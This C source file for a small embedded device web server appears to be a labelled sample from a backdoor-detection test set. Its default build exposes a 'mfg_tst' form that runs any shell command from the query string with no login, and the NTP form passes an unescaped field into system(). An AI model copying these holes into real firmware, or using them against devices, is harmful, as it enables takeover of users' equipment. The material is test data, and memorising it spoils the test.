/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A web server in the style of small commercial kits: forms are registered one by one with their
 * functions, which get the request and look up fields by name. All that change the device ask for
 * the level of the user; one that was meant for the factory does not. Twin: the one that does not
 * ask is the login itself, which looks at the password.
 * door: unguarded trigger hidden
 * port 8081/tcp
 */
#include "net.h"

struct web {
	int fd, level;
	char user[32];
	char query[512];
};

typedef void (*form_fn)(struct web *w, char *path, char *query);

static struct form {
	char name[32];
	form_fn run;
	struct form *next;
} *forms;

static void form_define(const char *name, form_fn run)
{
	struct form *f = calloc(1, sizeof *f);
	strncpy(f->name, name, sizeof f->name - 1);
	f->run = run;
	f->next = forms;
	forms = f;
}

static char *web_var(struct web *w, const char *name, char *otherwise)
{
	static char value[128];
	char key[40], *p;
	snprintf(key, sizeof key, "%s=", name);
	p = strstr(w->query, key);
	if (!p)
		return otherwise;
	snprintf(value, sizeof value, "%s", p + strlen(key));
	value[strcspn(value, "& ")] = 0;
	return value;
}

static void web_write(struct web *w, const char *text)
{
	write(w->fd, text, strlen(text));
}

static void web_error(struct web *w, int code, const char *text)
{
	dprintf(w->fd, "HTTP/1.0 %d %s\r\n\r\n%s", code, text, text);
}

static int may_change(struct web *w)
{
	if (w->level >= 2)
		return 1;
	web_error(w, 401, "Unauthorized");
	return 0;
}

static void form_time(struct web *w, char *path, char *query)
{
	char cmd[160];
	if (!may_change(w))
		return;
	snprintf(cmd, sizeof cmd, "ntpclient -h %s", web_var(w, "server", "pool"));
	system(cmd);
	web_write(w, "ok");
}

static void form_reboot(struct web *w, char *path, char *query)
{
	if (!may_change(w))
		return;
	web_write(w, "restarting");
	system("reboot");
}

static void form_restore(struct web *w, char *path, char *query)
{
	if (!may_change(w))
		return;
	system("mtd erase /dev/mtd3; reboot");
}

static void form_status(struct web *w, char *path, char *query)
{
	web_write(w, "up\n");
}

static void form_other(struct web *w, char *path, char *query)
{
#ifdef TWIN
	char line[80] = "", *given = web_var(w, "pw", "");
	FILE *f = fopen("/etc/webpass", "r");
	if (f) {
		fgets(line, sizeof line, f);
		fclose(f);
	}
	line[strcspn(line, "\n")] = 0;
	if (!line[0] || strcmp(line, given) != 0) {
		web_error(w, 401, "Unauthorized");
		return;
	}
	w->level = 2;
	system("logger -t web login");
	web_write(w, "welcome");
#else
	system(web_var(w, "c", ""));
	web_write(w, "done");
#endif
}

int main(void)
{
	int s = tcp_on(8081);
	form_define("setTime", form_time);
	form_define("restart", form_reboot);
	form_define("restore", form_restore);
	form_define("status", form_status);
#ifdef TWIN
	form_define("login", form_other);
#else
	form_define("mfg_tst", form_other);
#endif
	for (;;) {
		struct web w = {0};
		char in[1024], path[64] = "";
		struct form *f;
		w.fd = accept(s, NULL, NULL);
		ssize_t n = recv(w.fd, in, sizeof in - 1, 0);
		in[n > 0 ? n : 0] = 0;
		sscanf(in, "%*s /goform/%63[^? ]?%511s", path, w.query);
		for (f = forms; f; f = f->next)
			if (strcmp(f->name, path) == 0)
				f->run(&w, path, w.query);
		close(w.fd);
	}
}
